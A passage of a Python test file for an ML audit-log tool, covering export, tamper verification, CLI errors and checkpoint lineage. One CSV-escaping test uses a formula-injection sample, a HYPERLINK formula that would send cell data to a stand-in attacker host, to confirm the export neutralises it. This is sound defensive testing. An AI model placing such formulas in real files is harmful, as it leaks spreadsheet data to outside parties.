            return super().write(text)

    out = Pager()
    assert export_log(log, out, "csv") == 300  # the log as it was read: not the record appended meanwhile
    assert appended == [300] and out.getvalue().count("\r\n") == 301  # header and 300 records


def test_an_export_is_the_log_as_one_read_saw_it(tmp_path: Path) -> None:
    """An erase while the export is written: read in pages (1000 records a query, once), the export
    held the erased content from one page and, on a later one, the audit.erase that cleared it."""
    import io

    import sqlalchemy as sa

    log = AuditLog.open(tmp_path / "a.db", store_content=True, checkpoint_every=0)
    sa.event.listen(log.store.engine, "connect", lambda conn, _: conn.execute("PRAGMA synchronous=OFF"))  # speed
    log.store.engine.dispose()
    log.append("note", actor="a", content="Jane Doe's request", subject="jane")
    for i in range(1000):  # more records than one such page
        log.append("note", actor="a", content=f"request {i}", subject="bob")
    erased = []

    class Pager(io.StringIO):
        def write(self, text: str) -> int:
            if not erased and "Jane Doe" in self.getvalue():  # another process erases her content now
                other = AuditLog.open(tmp_path / "a.db")
                erased.append(other.erase("jane"))
                other.close()
            return super().write(text)

    out = Pager()
    assert export_log(log, out, "csv") == 1001 and erased == [[0]]
    assert "Jane Doe's request" in out.getvalue() and "audit.erase" not in out.getvalue()  # before the erase


def test_a_csv_export_writes_no_formula_and_still_round_trips(tmp_path: Path) -> None:
    """A spreadsheet runs a cell that starts with = + - @ (tab, carriage return) as a formula: such
    a text is written after a ' (OWASP's guard), as is one that starts with ' itself, and read back exact."""
    import csv

    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
    actors = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1",
              "'", "alice", "a=b"]
    for actor in actors:
        log.append("event", actor=actor, subject=actor)
    assert export_log(log, tmp_path / "log.csv", "csv") == len(actors)
    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as f:
        written = [line["actor"] for line in csv.DictReader(f)]
    assert written == ["'" + a for a in actors[:8]] + ["alice", "a=b"]
    back, _ = read_export(tmp_path / "log.csv")
    assert back == rows_of(log) and verify_log(back).ok


# ----- the CLI -----------------------------------------------------------------------------------


def heron(*argv: str) -> int:
    """`heron audit ...`: user errors print one line and are exit 2."""
    return main(list(argv))


def test_cli(tmp_path: Path, data_file: Path, capsys) -> None:
    db = tmp_path / "a.db"
    make_log(db, data_file, checkpoint_every=0)
    assert heron("audit", "keygen", str(tmp_path / "keys")) == 0
    key, public = tmp_path / "keys" / "audit_ed25519.pem", tmp_path / "keys" / "audit_ed25519.pub.pem"
    assert heron("audit", "checkpoint", "--log", str(db), "--sign-key", str(key), "--out", str(tmp_path / "cp.json")) == 0
    assert heron("audit", "verify", "--log", str(db), "--public-key", str(public),
                 "--anchor", str(tmp_path / "cp.json")) == 0
    # The anchor is the stored checkpoint written out: one checkpoint, one signature, not two.
    assert "audit log intact: 6 records, 2 checkpoint(s), 1 signature(s) valid" in capsys.readouterr().out
    assert heron("audit", "export", str(tmp_path / "out.csv"), "--log", str(db)) == 0
    assert heron("audit", "export", str(tmp_path / "out.json"), "--log", f"sqlite:///{db}") == 0
    assert heron("audit", "verify", "--log", str(tmp_path / "out.json")) == 0
    log = AuditLog.open(db)
    tamper(log, "UPDATE audit_records SET parameters = :p WHERE seq = 3", p='{"lr":0.5,"step":7}')
    capsys.readouterr()
    assert heron("audit", "verify", "--log", str(db)) == 1
    assert "record 3: altered" in capsys.readouterr().out
    assert heron("audit", "verify", "--log", str(tmp_path / "missing.db")) == 2
    assert heron("audit", "keygen", str(tmp_path / "keys")) == 2  # never overwrites


def test_cli_refuses_what_is_not_a_log_or_an_anchor_and_never_exports_over_the_log(tmp_path: Path, data_file: Path,
                                                                                  capsys) -> None:
    db = tmp_path / "a.db"
    make_log(db, data_file, checkpoint_every=0)
    before = db.read_bytes()
    for out in (str(db), f"sqlite:///{db}"):
        assert heron("audit", "export", str(db), "--log", out) == 2
        assert f"{db}: is the audit log being read; write to another file" in capsys.readouterr().err
    assert heron("audit", "checkpoint", "--log", str(db), "--out", str(db)) == 2
    assert db.read_bytes() == before  # no checkpoint stored either
    (tmp_path / "empty.db").write_bytes(b"")
    assert heron("audit", "verify", "--log", str(tmp_path / "empty.db")) == 2  # not "intact: 0 records"
    assert "empty.db: holds no audit log (missing its tables audit_records" in capsys.readouterr().err
    assert (tmp_path / "empty.db").read_bytes() == b""
    for text, complaint in [("{}", "KeyError"), ("xx", "JSONDecodeError")]:
        (tmp_path / "anchor.json").write_text(text)
        assert heron("audit", "verify", "--log", str(db), "--anchor", str(tmp_path / "anchor.json")) == 2
        err = capsys.readouterr().err
        assert f"--anchor {tmp_path / 'anchor.json'}: not a checkpoint" in err and complaint in err
    assert heron("audit", "verify", "--log", str(db), "--anchor", str(tmp_path)) == 2  # a folder: exit 2, not 1
    assert heron("audit", "verify", "--log", str(tmp_path / "missing.csv")) == 2  # once a bare [Errno 2]
    assert f"--log: no audit export at {tmp_path / 'missing.csv'}" in capsys.readouterr().err
    assert heron("audit", "export", str(tmp_path / "out.xml"), "--log", str(db)) == 2
    assert "out.xml: cannot tell the format from its suffix" in capsys.readouterr().err
    assert heron("audit", "export", str(tmp_path / "out.csv"), "--log", str(db)) == 0
    assert heron("audit", "verify", "--log", str(tmp_path / "out.csv")) == 0
    assert "holds no checkpoints (a CSV export never does), so records cut from its end go unseen" \
        in capsys.readouterr().out


def test_cli_exports_to_standard_output_as_to_a_file(tmp_path: Path, data_file: Path, capsys) -> None:
    db = tmp_path / "a.db"
    make_log(db, data_file, checkpoint_every=0)
    for fmt, suffix in [(None, ".json"), ("csv", ".csv")]:
        capsys.readouterr()
        assert heron("audit", "export", "-", "--log", str(db), *(["--format", fmt] if fmt else [])) == 0
        printed = capsys.readouterr()
        assert "wrote 6 audit records to standard output" in printed.err
        assert heron("audit", "export", str(tmp_path / f"out{suffix}"), "--log", str(db)) == 0
        written = (tmp_path / f"out{suffix}").read_text(encoding="utf-8")
        assert printed.out.replace("\r\n", "\n") == written.replace("\r\n", "\n")
    assert not (tmp_path / "-").exists()



# ----- lineage -----------------------------------------------------------------------------------


def fake_checkpoint(folder: Path, lineage: dict) -> Path:
    """A folder shaped like a checkpoint: config, weights and tokenizer bytes, a lineage with their manifest."""
    folder.mkdir(parents=True)
    files = {"config.json": b'{"d_model": 8}', "model.safetensors": folder.name.encode() * 10, "tokenizer.json": b"{}"}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    manifest = {name: {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()} for name, data in files.items()}
    (folder / "lineage.json").write_text(json.dumps({**lineage, "files": manifest}))
    return folder


def test_lineage_follows_the_links_to_the_data(tmp_path: Path, data_file: Path, capsys) -> None:
    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
    data = {"source": "synthetic", "kind": "permutation", "sha256": "5e" * 32}
    trained = fake_checkpoint(tmp_path / "run" / "step_2", {"recipe": {"name": "t"}, "data": data})
    aligned = fake_checkpoint(tmp_path / "sft", {"alignment": {"base": str(trained), "recipe": {
        "data": {"file": str(data_file), "max_len": 8}}}})
    quantized = fake_checkpoint(tmp_path / "q", {"quantized_from": str(aligned)})
    pruned = fake_checkpoint(tmp_path / "p", {"pruned_from": str(quantized)})
    made = {}
    for folder, event, inputs in [(trained, "train", {"data": data}), (aligned, "align", {"base": trained, "data": data_file}),
                                  (quantized, "compress.quantize", {"source": aligned}),
                                  (pruned, "compress.prune", {"source": quantized})]:
        made[folder] = log.append(event, actor="alice", inputs=inputs, outputs={"checkpoint": folder},
                                  model_hash=model_hash(folder))
    log.append("convert.to_hf", actor="alice", inputs={"checkpoint": pruned}, outputs={"folder": data_file})
    steps, history = audit_lineage(pruned, log=log)
    assert [s.stage.path for s in steps] == [pruned, quantized, aligned, trained]
    assert [s.stage.kind.name for s in steps] == ["pruning", "quantization", "alignment", "pretrain"]
    assert [[r.seq for r in s.records] for s in steps] == [[3], [2], [1], [0]]
    assert steps[2].records[0].inputs["data"].sha256 == file_sha256(data_file)
    assert steps[3].records[0].inputs["data"].sha256 == json_sha256(data)
    text = format_lineage(steps, history)
    assert "audit: record 0 train" in text and f"read data: file {data_file.resolve()}" in text
    assert heron("audit", "lineage", str(pruned), "--log", str(tmp_path / "a.db")) == 0
    assert capsys.readouterr().out.strip() == text
    assert heron("audit", "lineage", str(pruned), "--log", str(tmp_path / "elsewhere.db")) == 2  # named: must exist
    assert "no audit log at" in capsys.readouterr().err
    tamper(log, "UPDATE audit_records SET actor = 'eve' WHERE seq = 1")
    assert heron("audit", "lineage", str(pruned), "--log", str(tmp_path / "a.db")) == 0
    out = capsys.readouterr().out
    assert "is NOT intact (see `heron audit verify`): the records above may have been altered" in out


def test_lineage_ends_at_a_hugging_face_folder_as_an_origin(tmp_path: Path) -> None:
    hf = tmp_path / "hf"
    hf.mkdir()
    (hf / "config.json").write_text(json.dumps({"model_type": "mistral"}))
    quantized = fake_checkpoint(tmp_path / "q", {"quantized_from": str(hf)})
    steps, history = audit_lineage(quantized, log=AuditLog.open(tmp_path / "a.db", checkpoint_every=0))
    text = format_lineage(steps, history)
    assert text.endswith(f"  {hf}: a Hugging Face mistral folder; its history is outside Heron")
    assert "not followed" not in text


def test_lineage_reads_the_weights_and_names_a_change_the_manifest_would_hide(tmp_path: Path, capsys) -> None:
    """Weights changed in place at the same size: the folder hash the lineage looks up is of the files
    as they are, so no record claims the folder, the changed file is named, and the command fails."""
    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
    folder = fake_checkpoint(tmp_path / "run" / "step_2", {"recipe": {"name": "t"}})
    log.append("train", outputs={"checkpoint": folder}, model_hash=model_hash(folder))
    steps, history = audit_lineage(folder, log=log)
    assert steps[0].altered == () and [r.event for r in steps[0].records] == ["train"]
    assert heron("audit", "lineage", str(folder), "--log", str(tmp_path / "a.db")) == 0
    weights = folder / "model.safetensors"
    recorded = file_sha256(weights)
    weights.write_bytes(bytes(weights.stat().st_size))  # zeros, at the size lineage.json records
    steps, history = audit_lineage(folder, log=log)
    assert steps[0].records == () and steps[0].sha256 != folder_sha256(folder)  # the manifest's word, not taken
    assert steps[0].altered == (f"model.safetensors: sha256 {file_sha256(weights)}, lineage.json records {recorded}",)
    capsys.readouterr()
    assert heron("audit", "lineage", str(folder), "--log", str(tmp_path / "a.db")) == 1
    out = capsys.readouterr().out
    assert f"ALTERED since its lineage.json was written: model.safetensors: sha256 {file_sha256(weights)}" in out
    assert f"error: files of {folder} are NOT what their lineage.json records" in out


def test_documents_written_into_a_checkpoint_keep_its_lineage(tmp_path: Path, monkeypatch) -> None:
    """A model card or Annex IV written into the folder changes its hash; the write is
    recorded as reading the folder as it was, so the lineage still reaches the training
    record. A file added without a record breaks the chain, as any tampering does."""
    monkeypatch.setenv(LOG_ENV, str(tmp_path / "a.db"))
    folder = fake_checkpoint(tmp_path / "run" / "step_2", {"recipe": {"name": "t"}})
    record_event("train", outputs={"checkpoint": folder})
    write_document(folder, folder / "README.md", "a card\n", "card.model_card")
    write_document(folder, tmp_path / "card.md", "a copy elsewhere\n", "card.model_card")  # the folder unchanged
    write_document(folder, folder / "ANNEX_IV.md", "an annex\n", "card.annex_iv")
    log = AuditLog.open(tmp_path / "a.db")
    steps, history = audit_lineage(folder, log=log)
    assert [(r.seq, r.event) for r in steps[0].records] == [(3, "card.annex_iv"), (1, "card.model_card"), (0, "train")]
    assert "audit: record 0 train" in format_lineage(steps, history)
    (folder / "notes.txt").write_text("added by hand")
    steps, history = audit_lineage(folder, log=log)
    assert steps[0].records == ()
    assert "audit: no record wrote this folder" in format_lineage(steps, history)


# ----- recording from normal work --------------------------------------------------------------


def test_a_training_run_records_its_final_checkpoint(tmp_path: Path, monkeypatch) -> None:
    from heron.train import train
    from heron.train.recipe import recipe_from_dict

    monkeypatch.setenv(LOG_ENV, str(tmp_path / "audit.db"))
    recipe = recipe_from_dict({
        "name": "audit", "out_dir": str(tmp_path / "run"),
        "model": {"preset": "test", "overrides": {"d_model": 16, "n_layers": 1, "n_heads": 2, "max_seq_len": 16}},
        "data": {"synthetic": {"vocab_size": 16, "n_tokens": 512, "seed": 0}, "seq_len": 8},
        "schedule": {"warmup_steps": 0},
        "train": {"steps": 2, "batch_size": 2, "eval_every": 0, "eval_batches": 1, "ckpt_every": 1, "log_every": 1,
                  "device": "cpu", "threads": 1, "progress": False},
    })
    result = train(recipe)
    records = AuditLog.open(tmp_path / "audit.db").records()
    assert [r.event for r in records] == ["train"]  # the step-1 checkpoint is not the end of the run
    record = records[0]
    lineage = json.loads((result.checkpoint / "lineage.json").read_text())
    assert record.outputs["checkpoint"] == Artifact("folder", folder_sha256(result.checkpoint),
                                                    str(result.checkpoint.resolve()))
    assert record.model_hash == lineage["files"]["model.safetensors"]["sha256"]
    assert record.inputs["data"] == Artifact("json", json_sha256(lineage["data"]))
    assert record.parameters["step"] == 2 and record.parameters["recipe"]["name"] == "audit"
    assert record.parameters["energy"] == lineage["energy"]  # one figure, in the record and on the card
